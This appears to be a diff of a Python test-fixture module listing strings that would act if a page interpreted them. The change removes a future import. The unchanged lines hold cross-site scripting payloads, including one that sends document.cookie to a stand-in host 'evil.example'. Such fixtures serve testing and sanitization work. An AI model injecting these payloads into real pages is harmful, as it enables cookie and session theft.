@@ -1,7 +1,5 @@
 """Texts that would have effects if a page or a terminal interpreted them."""
 
-from __future__ import annotations
-
 SCRIPTS = ("alert(1)", "document.title='taken'", "fetch('//evil.example/'+document.cookie)")
 _TAGS = (
     "<script>{}</script>",
